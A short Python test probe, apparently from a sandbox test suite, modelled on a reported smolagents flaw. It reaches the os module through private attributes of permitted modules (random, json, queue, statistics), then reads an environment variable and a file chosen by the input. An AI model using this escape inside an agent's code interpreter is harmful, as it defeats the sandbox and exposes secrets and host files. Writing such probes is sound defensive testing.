# Tries: the modules that harmless modules have imported for themselves.
# Origin: the shape of CVE-2025-5120 (smolagents: allowed modules lead to others).

import json, queue, random, statistics

found = []
for reach in (
    lambda: random._os,
    lambda: json.codecs.sys.modules["os"],
    lambda: queue.threading._os,
    lambda: statistics.random._os,
):
    try:
        os = reach()
        found.append([os.environ.get(input["env"]), os.read(os.open(input["file"], 0), 200)])
    except Exception as error:
        found.append(repr(error))
found
